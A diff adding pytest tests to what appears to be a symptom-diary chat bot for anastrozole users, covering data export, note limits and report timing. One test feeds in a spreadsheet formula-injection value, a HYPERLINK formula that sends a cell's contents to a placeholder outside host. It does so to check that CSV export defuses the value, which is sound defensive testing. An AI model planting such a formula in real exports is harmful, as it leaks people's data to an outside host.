@@ -4,8 +4,11 @@ weekly line and the export. The pure rules (trends, months, buttons) are tested 
 
 from __future__ import annotations
 
+import csv
 import io
+import json
 import re
+import time
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
@@ -440,3 +443,72 @@ def test_starting_the_bot_imports_neither_matplotlib_nor_fpdf2() -> None:
     code = "import sys, bot.app; print(sorted({'matplotlib', 'fpdf'} & set(sys.modules)))"
     found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
     assert found.stdout.strip() == "[]", found.stderr
+
+
+@pytest.mark.parametrize(
+    "note", ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 pain", "-2 days", "@home"]
+)
+async def test_a_note_that_looks_like_a_formula_is_text_in_the_csv_and_exact_in_the_json(
+    anna: Person, note: str
+) -> None:
+    await anna.send("/log")
+    await log(anna, "bones", 2)
+    await anna.send(note)
+    since = len(anna.request.calls)
+    await anna.send("/export")
+    sent = dict(files(anna, since, "sendDocument"))
+    assert json.loads(sent["my-anastrozole-data.json"])["diary"][0]["note"] == note
+    [row] = list(csv.DictReader(io.StringIO(sent["my-anastrozole-diary.csv"].decode("utf-8-sig"))))
+    assert row["note"] == "'" + note
+    assert row["severity"] == "2"
+
+
+# --- a bounded diary ----------------------------------------------------------------------
+async def test_a_second_press_the_same_day_updates_the_entry_and_keeps_its_note(
+    anna: Person, services: Services
+) -> None:
+    await anna.send("/log")
+    await log(anna, "joints", 1)
+    await anna.send("stiff after the walk")
+    await anna.send("/log")
+    await log(anna, "joints", 3)
+    await anna.press(anna.buttons()["Skip the note"])
+    [entry] = diary.between(services.db, ANNA, TODAY, TODAY)
+    assert (entry.symptom, entry.severity, entry.note) == ("joints", 3, "stiff after the walk")
+    await log(anna, "joints", 2)
+    await anna.send("better by evening")
+    [entry] = diary.between(services.db, ANNA, TODAY, TODAY)
+    assert (entry.severity, entry.note) == (2, "better by evening")
+
+
+def test_a_day_holds_at_most_20_notes(services: Services) -> None:
+    ids = [diary.add(services.db, ANNA, TODAY, 0, f"s{n}", 1) for n in range(21)]
+    assert all(diary.set_note(services.db, ANNA, i, f"note {i}") for i in ids[:20])
+    assert not diary.set_note(services.db, ANNA, ids[20], "one too many")
+    assert diary.set_note(services.db, ANNA, ids[0], "a note replaced is still one")
+    assert sum(1 for e in diary.between(services.db, ANNA, TODAY, TODAY) if e.note) == 20
+
+
+async def test_report_and_chart_stay_within_budget_with_a_full_year(
+    anna: Person, services: Services
+) -> None:
+    """Every symptom every day for a year, each with a note as long as kept: the most the
+    diary can hold (3,650 entries); /chart (90 days) under 1 s, /report under 2 s."""
+    await anna.send("/start")
+    year_of_data(services)
+    with services.db.atomic():
+        for offset in range(365):
+            day = TODAY - timedelta(days=offset)
+            for symptom in SYMPTOMS:
+                entry = diary.add(services.db, ANNA, day, 0, symptom, offset % 4)
+                diary.set_note(services.db, ANNA, entry, f"{symptom} {offset} " + "n" * 200)
+    assert len(diary.between(services.db, ANNA, TODAY - timedelta(days=400), TODAY)) == 3650
+    await anna.send("/chart")  # the first draws pay matplotlib's and fpdf2's imports
+    await anna.send("/report")
+    started = time.perf_counter()
+    await anna.send("/chart 90")
+    chart = time.perf_counter() - started
+    started = time.perf_counter()
+    await anna.send("/report")
+    report = time.perf_counter() - started
+    assert chart < 1.0 and report < 2.0, (chart, report)
